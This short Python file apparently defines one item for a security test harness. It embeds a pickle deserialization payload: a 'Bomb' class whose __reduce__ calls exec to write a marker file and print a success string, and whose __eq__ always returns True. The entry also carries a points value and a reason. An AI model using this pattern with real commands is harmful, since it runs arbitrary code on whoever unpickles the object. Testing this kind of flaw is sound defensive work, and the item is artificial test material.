from attack import Attack

_TEXT = """
class Bomb:
    def __eq__(self, other): return True
    def __reduce__(self): return exec, ("open('/tmp/left_behind', 'w'); print('the-attack-succeeded')",)
figure = Bomb()
"""
ATTACK = Attack(
    "an object that runs code in whoever unpickles it",
    figure=_TEXT,
    points={"pick": 2.0},
    reason="no data but Bomb",
)
